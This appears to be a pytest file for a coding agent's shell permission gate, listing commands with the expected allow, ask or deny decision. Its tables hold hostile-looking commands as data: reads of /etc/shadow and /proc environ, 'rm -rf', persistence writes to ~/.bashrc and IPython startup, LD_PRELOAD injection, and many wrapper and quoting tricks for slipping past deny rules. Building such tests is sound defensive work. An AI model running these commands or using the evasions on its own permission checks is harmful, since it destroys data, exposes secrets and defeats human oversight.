"""Issue 18 acceptance 3: shell commands and the gate's answer, for the read-only list and for
rule matching, every evasion named in the issue included.

Each row is (rules, command, expected action). ``RO`` rows run with
``auto_allow_read_only_bash = true`` and no rules: the read-only list alone decides.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from zengine_jupyter.policy import CallView, PermissionGate, PermissionPolicy

ALLOW, ASK, DENY = "allow", "ask", "deny"
RO: dict[str, list[str]] = {}

READ_ONLY: list[tuple[str, str]] = [
    # provably read-only, inside the project
    ("git status", ALLOW),
    ("git status && ls -la | head", ALLOW),
    ("git log --oneline -5", ALLOW),
    ("git log origin/main..HEAD", ALLOW),
    ("git diff --stat HEAD~1", ALLOW),
    ("git show HEAD:src/a.py", ALLOW),
    ("git grep -n TODO -- src", ALLOW),
    ("git branch -a", ALLOW),
    ("git reflog", ALLOW),
    ("cat src/a.py", ALLOW),
    ("grep -rn KEY src", ALLOW),
    ("rg -n TODO src", ALLOW),
    ("head -n 5 data.csv", ALLOW),
    ("wc -l data.csv", ALLOW),
    ("sort data.csv | uniq -c", ALLOW),
    ("uniq data.csv", ALLOW),
    ("find . -name '*.py'", ALLOW),
    ("tree -L 2", ALLOW),
    ("file src/a.py", ALLOW),
    ("ls -la 2>/dev/null", ALLOW),
    ("echo /etc/passwd", ALLOW),
    ("jq . data.json", ALLOW),
    ("cat < data.csv", ALLOW),
    # options that execute
    ("git grep -O'sh -c id' x", ASK),
    ("git grep --open-files-in-pager=vi x", ASK),
    ("rg --pre ./decode KEY", ASK),
    ("rg --pre-glob '*.gz' --pre zcat KEY", ASK),
    ("sort --compress-program=./x data.csv", ASK),
    ("git log -p --ext-diff", ASK),
    ("git diff --textconv", ASK),
    ("find . -exec cat {} +", ASK),
    ("find . -execdir id \\;", ASK),
    ("find . -ok rm {} \\;", ASK),
    # options that write or change state
    ("uniq data.csv out.txt", ASK),
    ("sort -uo out.txt data.csv", ASK),
    ("sort -o out.txt data.csv", ASK),
    ("sort --output=out.txt data.csv", ASK),
    ("tree -o listing.txt", ASK),
    ("file -C -m magic", ASK),
    ("find . -delete", ASK),
    ("find . -fprint out.txt", ASK),
    ("git reflog expire --all", ASK),
    ("git reflog delete HEAD@{0}", ASK),
    ("git branch -D main", ASK),
    ("git diff --output=out.txt", ASK),
    ("ls > out.txt", ASK),
    # git options that change which repository or configuration is obeyed
    ("git --git-dir=/tmp/x status", ASK),
    ("git -c core.pager=id log", ASK),
    ("git -C /tmp/other status", ASK),
    ("git --exec-path=/tmp status", ASK),
    ("git --work-tree=/ status", ASK),
    # reads outside the project
    ("cat /proc/self/environ", ASK),
    ("grep KEY /proc/1/environ", ASK),
    ("cat ../sibling/secret.txt", ASK),
    ("cat ~/.bashrc", ASK),
    ("head /etc/shadow", ASK),
    ("grep -f /etc/patterns x", ASK),
    ("grep --file=/etc/patterns x", ASK),
    ("cat < /etc/passwd", ASK),
    ("grep -R KEY .", ASK),
    ("find -L . -name x", ASK),
    ("cat link.txt", ASK),
    ("cd /etc && cat passwd", ASK),
    ("ls ../*", ASK),
    # not on the list, or not provable
    ("./cat data.csv", ASK),
    ("python script.py", ASK),
    ("cat $(which x)", ASK),
    ("FOO=1 ls", ASK),
    ("env ls", ASK),
]

RULES: list[tuple[dict[str, list[str]], str, str]] = [
    # deny rules catch the program however it is written or wrapped
    ({"deny": ["Bash(rm:*)"]}, "rm -rf data", DENY),
    ({"deny": ["Bash(rm:*)"]}, "/bin/rm -rf data", DENY),
    ({"deny": ["Bash(rm:*)"]}, "command rm -rf data", DENY),
    ({"deny": ["Bash(rm:*)"]}, "builtin rm x", DENY),
    ({"deny": ["Bash(rm:*)"]}, "exec rm x", DENY),
    ({"deny": ["Bash(rm:*)"]}, "env rm -rf data", DENY),
    ({"deny": ["Bash(rm:*)"]}, "env -i -u HOME rm x", DENY),
    ({"deny": ["Bash(rm:*)"]}, "env -S 'rm -rf data'", DENY),
    ({"deny": ["Bash(rm:*)"]}, "\\rm -rf data", DENY),
    ({"deny": ["Bash(rm:*)"]}, "'rm' -rf data", DENY),
    ({"deny": ["Bash(rm:*)"]}, "r'm' -rf data", DENY),
    ({"deny": ["Bash(rm:*)"]}, "nice rm -rf data", DENY),
    ({"deny": ["Bash(rm:*)"]}, "nice -n 19 rm x", DENY),
    ({"deny": ["Bash(rm:*)"]}, "nohup rm x", DENY),
    ({"deny": ["Bash(rm:*)"]}, "sudo rm -rf data", DENY),
    ({"deny": ["Bash(rm:*)"]}, "sudo -u root rm x", DENY),
    ({"deny": ["Bash(rm:*)"]}, "ls | xargs rm", DENY),
    ({"deny": ["Bash(rm:*)"]}, "ls | xargs -0 -n 1 rm", DENY),
    ({"deny": ["Bash(rm:*)"]}, "timeout 5 rm x", DENY),
    ({"deny": ["Bash(rm:*)"]}, "timeout -s KILL -k 1 5 rm x", DENY),
    ({"deny": ["Bash(rm:*)"]}, "stdbuf -oL rm x", DENY),
    ({"deny": ["Bash(rm:*)"]}, "time rm x", DENY),
    ({"deny": ["Bash(rm:*)"]}, "bash -c 'rm -rf data'", DENY),
    ({"deny": ["Bash(rm:*)"]}, 'sh -c "ls; rm x"', DENY),
    ({"deny": ["Bash(rm:*)"]}, "find . -exec rm {} \\;", DENY),
    ({"deny": ["Bash(rm:*)"]}, "echo $(rm x)", DENY),
    ({"deny": ["Bash(rm:*)"]}, "ls; rm -rf data", DENY),
    ({"deny": ["Bash(rm:*)"]}, "rmdir x", ASK),  # word-bounded: rmdir is not rm
    ({"ask": ["Bash(git push:*)"], "allow": ["Bash"]}, "command git push", ASK),
    ({"ask": ["Bash(git push:*)"], "allow": ["Bash"]}, "/usr/bin/git push origin", ASK),
    ({"ask": ["Bash(git push:*)"], "allow": ["Bash"]}, "git -C . -c a.b=1 push", ASK),
    ({"deny": ["Bash(git push:*)"]}, "git --no-pager push --force", DENY),
    # allow rules: word-bounded prefixes on the normalised form
    ({"allow": ["Bash(npm test:*)"]}, "npm test", ALLOW),
    ({"allow": ["Bash(npm test:*)"]}, "npm test -- -k x", ALLOW),
    ({"allow": ["Bash(npm test:*)"]}, "npm test-evil", ASK),
    ({"allow": ["Bash(npm test:*)"]}, "npm testing", ASK),
    ({"allow": ["Bash(git diff:*)"]}, "git diff", ALLOW),
    ({"allow": ["Bash(git diff:*)"]}, "nice git diff", ALLOW),
    ({"allow": ["Bash(git diff:*)"]}, "git diff > /tmp/outside/file", ASK),
    ({"allow": ["Bash(git diff:*)"]}, "git diff --output=/tmp/outside/f", ASK),
    ({"allow": ["Bash(git diff:*)"]}, "git diff > .git/hooks/pre-commit", ASK),
    ({"allow": ["Bash(git diff:*)"]}, "git diff > patch.diff", ASK),  # edits ask: default
    ({"allow": ["Bash(git diff:*)", "Edit(*.diff)"]}, "git diff > patch.diff", ALLOW),
    ({"allow": ["Bash(git diff:*)"]}, "git diff > /dev/null", ALLOW),
    ({"allow": ["Bash(git diff:*)"]}, "git diff && rm -rf /", ASK),
    ({"allow": ["Bash(ls:*)"]}, "sudo ls", ASK),
    ({"allow": ["Bash(ls:*)"]}, "env LD_PRELOAD=/tmp/x.so ls", ASK),
    ({"allow": ["Bash(ls:*)"]}, "./ls", ASK),
    ({"allow": ["Bash(ls:*)"]}, "xargs ls", ASK),
    ({"allow": ["Bash(rm:*)"]}, "rm -rf build", ALLOW),
    ({"allow": ["Bash(rm:*)"]}, "rm -rf ~/.ssh", ASK),
    ({"allow": ["Bash(rm:*)"]}, "rm -rf ../other", ASK),
    ({"allow": ["Bash(cp:*)"]}, "cp evil sub/.git/config", ASK),
    ({"allow": ["Bash(cp:*)"]}, "cp evil.py ~/.ipython/profile_default/startup/", ASK),
    ({"allow": ["Bash(echo:*)"]}, "echo x >> ~/.bashrc", ASK),
    ({"allow": ["Bash(echo:*)"]}, "echo x > .z-engine/settings.toml", ASK),
    ({"allow": ["Bash(echo:*)"]}, 'echo "$(id)"', ASK),
    ({"allow": ["Bash(sort:*)"]}, "sort -o /etc/passwd x", ASK),
    ({"allow": ["Bash(sort:*)"]}, "sort -o out.txt data.csv", ASK),  # an output option: an edit
    ({"allow": ["Bash(sort:*)", "Edit(out.txt)"]}, "sort -o out.txt data.csv", ALLOW),
    ({"allow": ["Bash(uniq:*)"]}, "uniq data.csv out.txt", ASK),
    ({"allow": ["Bash(git diff:*)"]}, "git diff --output=x.diff", ASK),
    ({"allow": ["Bash(git diff:*)", "Edit(*.diff)"]}, "git diff --output=x.diff", ALLOW),
    ({"allow": ["Bash(curl:*)"]}, "curl -o ~/.bashrc https://example.invalid", ASK),
]


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("table")
    root = base / "proj"
    (root / "src").mkdir(parents=True)
    (root / "src" / "a.py").write_text("KEY = 1\n")
    (root / "data.csv").write_text("a\nb\n")
    (root / "data.json").write_text("{}\n")
    (base / "secret.txt").write_text("KEY=1\n")
    (root / "link.txt").symlink_to(base / "secret.txt")
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    return root


def test_the_table_is_large_and_covers_every_outcome() -> None:
    rows = [a for _, a in READ_ONLY] + [a for _, _, a in RULES]
    assert len(rows) >= 60
    assert min(rows.count(ALLOW), rows.count(ASK), rows.count(DENY)) >= 15


@pytest.mark.parametrize(("command", "action"), READ_ONLY, ids=[c for c, _ in READ_ONLY])
def test_read_only_list(project: Path, command: str, action: str) -> None:
    """Attack (item 4): commands on the read-only list that run, write or read outside."""
    policy = PermissionPolicy.from_lists(auto_allow_read_only_bash=True)
    decision = PermissionGate(project, policy).decide(CallView("Bash", "execute", command=command))
    assert decision.action == action, decision.reason


@pytest.mark.parametrize(("rules", "command", "action"), RULES, ids=[c for _, c, _ in RULES])
def test_rule_matching(
    project: Path, rules: dict[str, list[str]], command: str, action: str
) -> None:
    """Attack (item 5): rules matched on raw text (wrappers, quotes, paths, missing word
    boundaries, redirections and output options ignored)."""
    policy = PermissionPolicy.from_lists(**rules)  # type: ignore[arg-type]
    decision = PermissionGate(project, policy).decide(CallView("Bash", "execute", command=command))
    assert decision.action == action, decision.reason
